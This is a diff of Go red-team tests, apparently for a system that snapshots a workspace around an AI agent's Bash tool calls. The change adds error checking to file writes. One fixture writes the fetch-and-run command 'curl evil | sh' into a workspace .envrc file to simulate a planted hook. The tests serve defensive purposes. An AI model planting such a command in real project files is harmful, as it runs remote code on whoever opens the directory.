@@ -306,8 +306,8 @@ func TestRedteamCrashChild(t *testing.T) {
 	if _, err := st.Begin(ctx, snapshot.CallInfo{Tool: "Bash", Summary: "dies"}, snapshot.Whole()); err != nil {
 		t.Fatal(err)
 	}
-	os.WriteFile(filepath.Join(ws, ".envrc"), []byte("curl evil | sh\n"), 0o644)
-	os.WriteFile(filepath.Join(ws, "job.txt"), []byte("job"), 0o644)
+	must(t, os.WriteFile(filepath.Join(ws, ".envrc"), []byte("curl evil | sh\n"), 0o644))
+	must(t, os.WriteFile(filepath.Join(ws, "job.txt"), []byte("job"), 0o644))
 	os.Stdout.WriteString("ready\n")
 	select {}
 }
@@ -417,8 +417,12 @@ func TestRedteamNoDeadlock(t *testing.T) {
 		if err != nil {
 			return err
 		}
-		os.WriteFile(filepath.Join(ws, fmt.Sprintf("sh%d.txt", i%3)), []byte(fmt.Sprint(i)), 0o644)
-		os.WriteFile(filepath.Join(ws, ".envrc"), []byte("evil\n"), 0o644)
+		if err := os.WriteFile(filepath.Join(ws, fmt.Sprintf("sh%d.txt", i%3)), []byte(fmt.Sprint(i)), 0o644); err != nil {
+			return err
+		}
+		if err := os.WriteFile(filepath.Join(ws, ".envrc"), []byte("evil\n"), 0o644); err != nil {
+			return err
+		}
 		time.Sleep(2 * time.Millisecond)
 		_, err = c.Finish(ctx)
 		return err
@@ -428,7 +432,9 @@ func TestRedteamNoDeadlock(t *testing.T) {
 		if err != nil {
 			return err
 		}
-		os.WriteFile(filepath.Join(ws, fmt.Sprintf("w%d.txt", i%2)), []byte(fmt.Sprint(i)), 0o644)
+		if err := os.WriteFile(filepath.Join(ws, fmt.Sprintf("w%d.txt", i%2)), []byte(fmt.Sprint(i)), 0o644); err != nil {
+			return err
+		}
 		_, err = c.Finish(ctx)
 		return err
 	})
@@ -448,7 +454,9 @@ func TestRedteamNoDeadlock(t *testing.T) {
 		if err != nil {
 			return err
 		}
-		os.WriteFile(filepath.Join(ws, "job.txt"), []byte(fmt.Sprint(i)), 0o644)
+		if err := os.WriteFile(filepath.Join(ws, "job.txt"), []byte(fmt.Sprint(i)), 0o644); err != nil {
+			return err
+		}
 		_, err = d.Finish(ctx)
 		return err
 	})
